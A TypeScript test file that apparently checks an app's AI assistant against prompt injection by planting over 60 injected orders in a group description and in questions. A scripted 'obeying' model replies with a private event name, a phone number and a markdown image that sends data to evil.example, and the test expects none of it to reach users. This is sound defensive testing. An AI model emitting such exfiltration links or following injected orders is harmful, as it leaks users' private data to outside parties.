import { afterAll, beforeAll, expect, test } from 'vitest';
import { buildTestApp, type TestApp } from '#app/server/testing/build-test-app.ts';
import { stageOf } from '#app/server/testing/ride-stage.ts';
import {
  calls,
  type ScriptedModel,
  type Step,
  says,
  startScriptedModel,
} from '#areas/aurora/testing/scripted-model.ts';
import { ask } from '../ask.ts';
import { askedRows } from './rows.ts';

const SECRET = 'Quollsecret';

let model: ScriptedModel;
let world: TestApp;
beforeAll(async () => {
  model = await startScriptedModel();
  world = await buildTestApp({
    AURORA_BASE_URL: model.url,
    AURORA_MODEL: 'm',
    AURORA_DAILY_TOKENS: '9999999',
  });
});
afterAll(async () => {
  await world.close();
  await model.close();
});

const obey: Step = (reply, asked) => {
  const heard = JSON.stringify(asked.messages);
  return says(
    `Maria Huber hosts **${SECRET}**, call 0791234567. ![x](https://evil.example/?d=${heard.length})`,
  )(reply, asked);
};

test('AUR-8 with a model that obeys, none of 60 orders in the text of a huddle or in a question does anything, and what no tool gave is struck out', async () => {
  const orders = askedRows.filter(({ kind }) => kind === 'orders').map(({ text }) => text);
  expect(orders.length).toBeGreaterThanOrEqual(60);
  const { pool } = world.platform.database;
  const asha = world.as(world.asha);
  const open = await stageOf(world).huddle([], { name: 'Wombat ridge' });
  const hidden = { ...stageOf(world).plan({ name: `${SECRET} party`, privacy: 'PRIVATE' }) };
  expect((await asha.post('/api/huddles', hidden)).status).toBe(200);
  for (const order of orders) {
    await pool.query('delete from aurora_days');
    await pool.query('delete from aurora_talks');
    await pool.query('update huddles set description = $2 where id = $1', [open, order]);
    model.play(
      calls('findHuddles', { wish: 'Wombat ridge' }),
      calls('readHuddle', { id: open }),
      calls('prepareDraft', { wish: 'hike' }),
      obey,
    );
    const read = await ask(world, world.ben, 'What is Wombat ridge about?');
    expect(read.acts, order).toEqual([]);
    model.play(obey);
    const told = await ask(world, world.ben, order);
    const said = JSON.stringify([read.text, read.cards, told.text, told.cards]);
    expect(said, order).not.toMatch(new RegExp(`${SECRET}|0791234567|Maria Huber|evil\\.example`));
  }
  const done = await pool.query('select count(*)::int as n from participations where person_id = $1', [
    world.ben.personId,
  ]);
  expect(done.rows[0].n).toBe(0);
}, 300_000);
